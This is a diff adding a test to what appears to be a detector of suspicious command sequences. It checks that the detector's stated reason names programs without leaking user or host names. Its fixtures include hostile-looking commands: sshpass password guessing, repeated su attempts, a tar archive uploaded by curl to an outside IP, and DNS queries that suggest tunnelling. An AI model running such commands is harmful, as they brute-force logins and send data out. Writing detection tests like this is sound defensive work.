@@ -145,3 +145,17 @@ test('what was tried before the clock was set back does not count', () => {
   const calls = times(6, (i) => `sshpass -p pw${i} ssh root@h id`)
   expect(run(calls, { every: -61 }).proofs).toEqual([])
 })
+
+test('a reason names programs, and nothing that they are given', () => {
+  const tries = [
+    times(6, (i) => `sshpass -p pw${i} ssh anna@payroll id`),
+    times(6, () => 'su anna -c id'),
+    ['tar czf /home/anna/payroll.tgz /srv', 'curl -T /home/anna/payroll.tgz http://203.0.113.9/u'],
+    times(6, (i) => `dig payroll${label(i)}.t.example`),
+  ]
+  for (const commands of tries) {
+    const { because } = run(commands, { uid: 1000 })
+    expect(because).toHaveLength(1)
+    expect(because[0]).not.toMatch(/anna|payroll/)
+  }
+})
